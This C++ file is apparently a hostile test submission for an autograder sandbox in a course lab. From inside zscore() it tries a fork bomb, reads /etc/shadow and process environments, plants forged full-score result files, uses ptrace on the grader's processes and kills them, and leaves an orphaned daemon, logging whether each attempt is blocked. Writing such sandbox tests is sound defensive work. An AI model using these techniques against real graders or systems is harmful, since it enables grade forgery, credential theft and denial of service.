// Hostile submission (runtime): everything student code must not be able to do, tried in turn
// from inside zscore(). Each attempt's outcome is written into the error the call throws, so
// the test reads what happened; a read that succeeds puts the stolen bytes there too, where
// the test looks for them in every report. The test replaces the @NAMES@ before grading.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <sstream>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

#include "gmmlab/errors.hpp"
#include "student.hpp"

namespace {

std::string outcome(bool done) { return done ? "DONE" : std::strerror(errno); }

std::string slurp(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return "";
  std::string s;
  char b[4096];
  ssize_t n;
  while ((n = ::read(fd, b, sizeof b)) > 0 && s.size() < 8192) s.append(b, std::size_t(n));
  ::close(fd);
  return s;
}

pid_t parent_of(pid_t pid) {
  const std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
  const auto close = stat.rfind(')');
  if (close == std::string::npos) return 0;
  std::istringstream in(stat.substr(close + 2));
  char state;
  pid_t ppid = 0;
  in >> state >> ppid;
  return ppid;
}

std::vector<pid_t> ancestors() {
  std::vector<pid_t> up;
  for (pid_t p = ::getppid(); p > 1 && up.size() < 16; p = parent_of(p)) up.push_back(p);
  return up;
}

std::vector<std::string> cmdline(pid_t pid) {
  const std::string raw = slurp("/proc/" + std::to_string(pid) + "/cmdline");
  std::vector<std::string> args;
  std::string arg;
  for (char c : raw) {
    if (c == '\0') args.push_back(arg), arg.clear();
    else arg += c;
  }
  return args;
}

const char kForged[] = "{\"score\": 100, \"output\": \"FORGED by the student\", \"tests\": []}\n";

bool write_file(const std::string& path, int flags) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC | flags, 0666);
  if (fd < 0) return false;
  const bool ok = ::write(fd, kForged, sizeof kForged - 1) > 0;
  ::close(fd);
  return ok;
}

void writes(std::ostringstream& log) {
  const char* create[] = {"@VICTIM@/written.txt", "/tmp/gmmlab-hostile-@TAG@", "/var/tmp/gmmlab-hostile-@TAG@",
                          "/dev/shm/gmmlab-hostile-@TAG@", "/root/gmmlab-hostile-@TAG@",
                          "../gmmlab-hostile-@TAG@", "../../gmmlab-hostile-@TAG@", "../../../gmmlab-hostile-@TAG@",
                          "@SUBMISSION@/injected.cpp", "@CHECKOUT@/gmmlab-hostile-@TAG@",
                          "/autograder/results/results.json"};
  for (const char* path : create) log << "write " << path << ": " << outcome(write_file(path, O_CREAT | O_TRUNC)) << "\n";
  log << "truncate victim: " << outcome(write_file("@VICTIM@/victim.txt", O_TRUNC)) << "\n";
  log << "unlink victim: " << outcome(::unlink("@VICTIM@/victim.txt") == 0) << "\n";
  log << "chmod victim: " << outcome(::chmod("@VICTIM@/victim.txt", 04777) == 0) << "\n";
  log << "symlink in victim: " << outcome(::symlink("/etc/passwd", "@VICTIM@/link") == 0) << "\n";
  log << "mkdir in victim: " << outcome(::mkdir("@VICTIM@/made", 0777) == 0) << "\n";
}

void reads(std::ostringstream& log) {
  std::vector<std::string> paths{"@VICTIM@/secret.txt", "@CHECKOUT@/instructor/solution/zscore.cpp", "/etc/shadow",
                                 "/proc/1/environ", "/proc/1/cmdline"};
  for (pid_t p : ancestors()) {
    paths.push_back("/proc/" + std::to_string(p) + "/environ");
    paths.push_back("/proc/" + std::to_string(p) + "/cmdline");
  }
  for (const std::string& path : paths) {
    const std::string got = slurp(path);
    log << "read " << path << ": " << (got.empty() ? "refused" : "LEAKED " + got) << "\n";
  }
}

void network(std::ostringstream& log) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int s = ::socket(AF_INET, SOCK_STREAM, 0);
  log << "tcp socket: " << outcome(s >= 0) << "\n";
  if (s >= 0) {
    to.sin_port = htons(@TCP@);
    log << "tcp connect: " << outcome(::connect(s, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0) << "\n";
    ::close(s);
  }
  s = ::socket(AF_INET, SOCK_DGRAM, 0);
  log << "udp socket: " << outcome(s >= 0) << "\n";
  if (s >= 0) {
    to.sin_port = htons(@UDP@);
    log << "udp send: " << outcome(::sendto(s, "FORGED", 6, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) == 6) << "\n";
    ::close(s);
  }
  s = ::socket(AF_UNIX, SOCK_STREAM, 0);
  log << "unix socket: " << outcome(s >= 0) << "\n";
  if (s >= 0) {
    sockaddr_un un{};
    un.sun_family = AF_UNIX;
    std::strncpy(un.sun_path, "@VICTIM@/listener.sock", sizeof un.sun_path - 1);
    log << "unix connect: " << outcome(::connect(s, reinterpret_cast<sockaddr*>(&un), sizeof un) == 0) << "\n";
    ::close(s);
  }
  log << "inet6 socket: " << outcome(::socket(AF_INET6, SOCK_DGRAM, 0) >= 0) << "\n";
}

// As many processes as the walls allow, all paused, then ended; and as many threads.
void processes(std::ostringstream& log) {
  std::vector<pid_t> children;
  while (children.size() < 4096) {
    const pid_t c = ::fork();
    if (c < 0) break;
    if (c == 0) {
      for (;;) ::pause();
    }
    children.push_back(c);
  }
  log << "forked " << children.size() << "\n";
  // (Under the weakest walls even its own children are out of its reach: the sandbox ends them.)
  for (pid_t c : children)
    if (::kill(c, SIGKILL) == 0) ::waitpid(c, nullptr, 0);
  std::vector<std::thread> threads;
  try {
    while (threads.size() < 4096) threads.emplace_back([] { ::usleep(200000); });
  } catch (const std::system_error&) {
  }
  log << "threads " << threads.size() << "\n";
  for (auto& t : threads) t.join();
}

// A process that leaves the session and is orphaned, renamed so the test can look for it.
void survivor() {
  const pid_t c = ::fork();
  if (c != 0) {
    if (c > 0) ::waitpid(c, nullptr, 0);
    return;
  }
  ::setsid();
  if (::fork() == 0) {
    ::prctl(PR_SET_NAME, "gmmsv@TAG@");
    ::signal(SIGTERM, SIG_IGN);
    ::signal(SIGHUP, SIG_IGN);
    for (;;) ::pause();
  }
  ::_exit(0);
}

// Forge every report an ancestor was told to write, then kill the ancestors: the attack that
// used to take full marks.
void forge_and_kill(std::ostringstream& log) {
  const std::vector<pid_t> up = ancestors();
  log << "ancestors " << up.size() << "\n";
  for (pid_t p : up) {
    const std::vector<std::string> args = cmdline(p);
    for (std::size_t i = 0; i + 1 < args.size(); ++i)
      if (args[i].rfind("--", 0) == 0 || args[i] == "-o")
        log << "forge " << args[i + 1] << ": " << outcome(write_file(args[i + 1], O_TRUNC)) << "\n";
    log << "forge /proc/" << p << "/fd/1: " << outcome(write_file("/proc/" + std::to_string(p) + "/fd/1", 0)) << "\n";
    log << "ptrace " << p << ": " << outcome(::ptrace(PTRACE_ATTACH, p, nullptr, nullptr) == 0) << "\n";
    char buffer[16];
    iovec local{buffer, sizeof buffer}, remote{reinterpret_cast<void*>(0x400000), sizeof buffer};
    log << "process_vm_readv " << p << ": " << outcome(::process_vm_readv(p, &local, 1, &remote, 1, 0) >= 0) << "\n";
  }
  for (pid_t p : up) log << "kill " << p << ": " << outcome(::kill(p, SIGKILL) == 0) << "\n";
  log << "kill 1: " << outcome(::kill(1, SIGKILL) == 0) << "\n";
  log << "kill -1: " << outcome(::kill(-1, SIGKILL) == 0) << "\n";
}

}  // namespace

namespace gmmlab {

arma::mat StudentSteps::zscore(const arma::mat& raw) const {
  std::ostringstream log;
  processes(log);
  writes(log);
  reads(log);
  network(log);
  survivor();
  forge_and_kill(log);
  throw Error("hostile report\n" + log.str() + "end of hostile report");
  return raw;
}

}  // namespace gmmlab
